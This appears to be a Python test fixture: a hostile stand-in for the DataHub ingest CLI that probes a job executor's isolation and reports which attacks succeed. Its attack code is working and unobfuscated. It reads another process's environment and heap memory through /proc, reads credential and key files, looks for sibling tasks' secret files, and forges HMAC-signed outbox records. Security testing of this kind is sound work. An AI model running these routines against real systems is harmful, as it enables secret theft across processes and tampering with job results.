"""A hostile stand-in for ``datahub ingest run -c - --report-to FILE`` (standard library only).

Installed as ``bin/datahub`` of a fake bundled venv (``hostile-bundled``). It reads the stdin
envelope like the real CLI, then does what a malicious custom source could do and prints one
line ``HOSTILE-FINDINGS <json>`` saying, per attack, whether it worked. It is given the GMS
token only as a SHA-256 digest (``token_sha256``), so it can say whether anything it read
contained the token without the test handing the token to it.

Attacks (targets from ``source.config``): the executor's ``/proc/<pid>/environ``, ``mem``
(at an address from ``maps``), ``fd/*``; the config file, the outbox (listing, a record, the
key), another pool's logs, the work dir of a concurrent task (listing the work root, and
through ``/proc/<pid>/cwd`` of other processes); writing a forged SUCCESS record for another
request into the outbox, signed with the key if the key could be read. With ``mode: victim``
it instead writes ``victim_secret`` into its work dir and waits until something listens on
``gate_port`` (loopback: the one channel that crosses every isolation mode).
"""

from __future__ import annotations

import ctypes
import hashlib
import hmac
import json
import os
import re
import sys
import time
from typing import Any

HEX = re.compile(rb"[0-9a-f]{32}")
READ_CAP = 4 * 1024 * 1024


def contains_token(data: bytes, digest: str) -> bool:
    return any(hashlib.sha256(m.group()).hexdigest() == digest for m in HEX.finditer(data))


def attempt(findings: dict[str, Any], name: str, digest: str, action: Any) -> None:
    """Run one attack; record ``read N`` / ``wrote`` / the error, and whether the token leaked."""
    try:
        result = action()
    except OSError as exc:
        findings[name] = {"ok": False, "error": exc.strerror or type(exc).__name__}
        return
    except Exception as exc:  # an attack that fails in any other way has failed
        findings[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
        return
    data = result if isinstance(result, bytes) else json.dumps(result).encode()
    findings[name] = {"ok": True, "bytes": len(data), "token": contains_token(data, digest)}


def read(path: str) -> bytes:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, READ_CAP)
    finally:
        os.close(fd)


def read_mem(pid: int) -> bytes:
    """A chunk of the executor's heap, where its token lives."""
    maps = read(f"/proc/{pid}/maps").decode()
    heap = next(line for line in maps.splitlines() if "[heap]" in line)
    start, end = (int(x, 16) for x in heap.split()[0].split("-"))
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        return os.pread(fd, min(end - start, READ_CAP), start)
    finally:
        os.close(fd)


def read_fds(pid: int) -> bytes:
    names = os.listdir(f"/proc/{pid}/fd")
    return json.dumps([os.readlink(f"/proc/{pid}/fd/{n}") for n in names]).encode()


def is_executor(pid: int) -> bool:
    try:
        return b"executor" in read(f"/proc/{pid}/cmdline")
    except OSError:
        return False


def sibling_secrets() -> bytes:
    """Look for a concurrent task's secret file: next to our work dir, and via /proc/*/cwd."""
    found: list[str] = []
    here = os.getcwd()
    base = os.path.dirname(here)
    for name in os.listdir(base):
        path = os.path.join(base, name, "secret.txt")
        if os.path.join(base, name) != here and os.path.exists(path):
            found.append(read(path).decode())
    if not found:
        raise PermissionError(13, "no sibling found")
    return json.dumps(found).encode()


def proc_cwd_secrets() -> bytes:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.append(read(f"/proc/{pid}/cwd/secret.txt").decode())
        except OSError:
            continue
    if not found:
        raise PermissionError(13, "nothing readable")
    return json.dumps(found).encode()


def forge(config: dict[str, Any], key_hex: str | None) -> bytes:
    record = {"urn": config["victim_urn"], "status": "SUCCESS", "release": False,
              "aspect": {"status": "SUCCESS", "report": "forged by a recipe", "startTimeMs": 0,
                         "durationMs": 0}}
    victim = config["victim_urn"].rsplit(":", 1)[-1]
    stored_at = time.time_ns()
    body: dict[str, Any] = {"key": victim, "pool": config["victim_pool"], "stored_at_ns": stored_at,
                            "record": record}
    if key_hex:
        canonical = json.dumps({"pool": config["victim_pool"], "key": victim, "stored_at_ns": stored_at,
                                "record": record}, sort_keys=True, separators=(",", ":")).encode()
        body["mac"] = hmac.new(bytes.fromhex(key_hex), canonical, hashlib.sha256).hexdigest()
    path = os.path.join(config["outbox"], f"{victim}.json")
    with open(path, "w") as out:
        json.dump(body, out)
    return b"written"


def attack(config: dict[str, Any]) -> dict[str, Any]:
    digest, pid = config["token_sha256"], int(config["executor_pid"])
    findings: dict[str, Any] = {"uid": os.getuid(), "cwd": os.getcwd()}
    libc = ctypes.CDLL(None)
    findings["self_dumpable"] = libc.prctl(3, 0, 0, 0, 0)  # PR_GET_DUMPABLE
    findings["pid_is_executor"] = is_executor(pid)
    attempt(findings, "proc_environ", digest, lambda: read(f"/proc/{pid}/environ"))
    attempt(findings, "proc_mem", digest, lambda: read_mem(pid))
    attempt(findings, "proc_fd", digest, lambda: read_fds(pid))
    attempt(findings, "own_environ", digest, lambda: read("/proc/self/environ"))
    for name in ("config_file", "key_file", "token_file"):
        if config.get(name):
            attempt(findings, name, digest, lambda n=name: read(config[n]))
    attempt(findings, "outbox_list", digest, lambda: json.dumps(os.listdir(config["outbox"])).encode())
    attempt(findings, "other_pool_logs", digest,
            lambda: json.dumps(os.listdir(config["other_logs"])).encode())
    attempt(findings, "sibling_work_dir", digest, sibling_secrets)
    attempt(findings, "proc_cwd_of_others", digest, proc_cwd_secrets)
    key = read(config["key_file"]).decode().strip() if findings.get("key_file", {}).get("ok") else None
    attempt(findings, "forged_record", digest, lambda: forge(config, key))
    return findings


def victim(config: dict[str, Any]) -> None:
    import socket

    with open("secret.txt", "w") as out:
        out.write(config["victim_secret"])
    print("victim ready", flush=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", int(config["gate_port"])), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)


def main() -> None:
    envelope = json.loads(sys.stdin.read())
    config = json.loads(envelope["__recipe_yaml__"])["source"]["config"]
    if config.get("mode") == "victim":
        victim(config)
        return
    print("HOSTILE-FINDINGS " + json.dumps(attack(config), sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
